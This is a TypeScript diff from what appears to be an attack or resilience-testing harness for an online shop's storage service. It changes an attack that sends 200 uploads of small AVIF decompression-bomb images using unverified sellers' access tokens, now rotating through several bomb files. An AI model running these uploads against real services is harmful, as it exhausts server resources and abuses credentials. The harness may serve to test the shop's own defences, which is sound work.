@@ -9,8 +9,8 @@ export type Target = {
   customer: { token: string; orderId: string }
   /** The access tokens of unverified sellers. */
   sellers: string[]
-  /** A small file that decodes to a huge picture. */
-  bomb: Uint8Array
+  /** Small files that decode to huge pictures: one that the shop refuses, and the largest that it accepts. */
+  bombs: Uint8Array[]
 }
 
 /** The behaviour of one connection of an attack. */
@@ -68,14 +68,16 @@ export const ATTACKS = {
   '200 uploads of small files that decompress to huge pictures': (target: Target) =>
     attack(target, 200, {
       says(number) {
+        const { sellers, bombs } = target
         const path = `/storage/v1/object/seller-images/bomb-${number}-${Date.now()}.avif`
-        const token = target.sellers[number % target.sellers.length]
+        const token = sellers[number % sellers.length]
+        const bomb = bombs[Math.floor(number / sellers.length) % bombs.length] ?? new Uint8Array()
         const head = request(target, 'POST', path, [
           `authorization: Bearer ${token}`,
           'content-type: image/avif',
-          `content-length: ${target.bomb.length}`,
+          `content-length: ${bomb.length}`,
         ])
-        return Buffer.concat([head, target.bomb])
+        return Buffer.concat([head, bomb])
       },
       reads: true,
     }),
